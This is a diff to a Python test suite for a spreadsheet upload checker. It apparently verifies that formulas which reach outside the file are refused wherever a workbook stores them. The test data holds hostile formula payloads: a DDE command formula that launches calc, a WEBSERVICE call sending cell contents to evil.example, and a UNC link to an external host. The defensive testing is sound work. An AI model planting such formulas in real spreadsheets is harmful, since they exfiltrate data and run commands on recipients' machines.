@@ -10,8 +10,10 @@ from mingfa.spreadsheets.forms import Percent, PlaceTaken, checked_form, filled,
 from openpyxl.chart import BarChart, Reference
 from openpyxl.comments import Comment
 from openpyxl.drawing.image import Image
+from openpyxl.formatting.rule import ColorScaleRule, FormulaRule
 from openpyxl.styles import Font
 from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.table import Table, TableFormula
 from PIL import Image as Picture
 
 
@@ -220,3 +222,73 @@ def test_a_name_that_belongs_to_one_sheet_does_not_reach_out_either():
     book.active.defined_names["evil"] = openpyxl.workbook.defined_name.DefinedName("evil", attr_text="cmd|'/C calc'!A0")
     kept = openpyxl.load_workbook(io.BytesIO(checked_form(saved(book))))
     assert dict(kept.active.defined_names) == {}
+
+
+# --- formulas outside of cells ----------------------------------------------------------------------------
+REACHING = ['WEBSERVICE("http://evil.example/"&A1)', "cmd|'/C calc'!A0", "[1]表!A1", "\\\\evil\\[x.xlsx]表!A1", 'importxml("a")']
+HARMLESS = ["A1>3", "SUM($A$1:$A$3)=A4", '"是,否"', '"省|市,http://example.gov.cn/"']
+
+
+def with_condition(formula):
+    book = openpyxl.Workbook()
+    book.active.title = "表"
+    book.active["A1"] = 1
+    book.active.conditional_formatting.add("B2:B9", FormulaRule(formula=[formula]))
+    return saved(book)
+
+
+def with_bound(formula):
+    book = openpyxl.Workbook()
+    book.active.title = "表"
+    book.active["A1"] = 1
+    rule = ColorScaleRule(start_type="formula", start_value=formula, start_color="FF0000", end_type="max", end_color="00FF00")
+    book.active.conditional_formatting.add("B2:B9", rule)
+    return saved(book)
+
+
+def with_validation(formula, second=False):
+    book = openpyxl.Workbook()
+    book.active.title = "表"
+    book.active["A1"] = 1
+    one = DataValidation(type="whole", operator="between", formula1="1" if second else formula, formula2=formula)
+    one.add("B2:B9")
+    book.active.add_data_validation(one)
+    return saved(book)
+
+
+def with_table(formula, total=False):
+    book = openpyxl.Workbook()
+    page = book.active
+    page.title = "表"
+    page["B2"], page["B3"] = "数量", 1
+    table = Table(displayName="t", ref="B2:B9")
+    table._initialise_columns()
+    table.tableColumns[0].name = "数量"
+    name = "totalsRowFormula" if total else "calculatedColumnFormula"
+    setattr(table.tableColumns[0], name, TableFormula(attr_text=formula))
+    page.add_table(table)
+    return saved(book)
+
+
+PLACES = {
+    "条件格式": [with_condition, with_bound],
+    "数据有效性": [with_validation, lambda formula: with_validation(formula, second=True)],
+    "表格列": [with_table, lambda formula: with_table(formula, total=True)],
+}
+
+
+@pytest.mark.parametrize("formula", REACHING)
+@pytest.mark.parametrize(("kind", "make"), [(kind, make) for kind, some in PLACES.items() for make in some])
+def test_IF2_a_formula_that_reaches_out_is_refused_wherever_a_form_keeps_one(kind, make, formula):
+    with pytest.raises(SpreadsheetRefused) as refused:
+        checked_form(make(formula))
+    assert refused.value.error.code == "unsafe_formula"
+    assert refused.value.error.message == f"“表”B2:B9 的{kind}里的公式会打开别的文件或网址，未接收。请删去这条{kind}后上传。"
+
+
+@pytest.mark.parametrize("formula", HARMLESS)
+@pytest.mark.parametrize("make", [with_condition, with_validation])
+def test_conditions_within_the_form_and_choices_written_out_stay(make, formula):
+    page = openpyxl.load_workbook(io.BytesIO(checked_form(make(formula)))).active
+    rules = [rule.formula[0] for one in page.conditional_formatting for rule in one.rules]
+    assert rules + [one.formula1 for one in page.data_validations.dataValidation] == [formula]
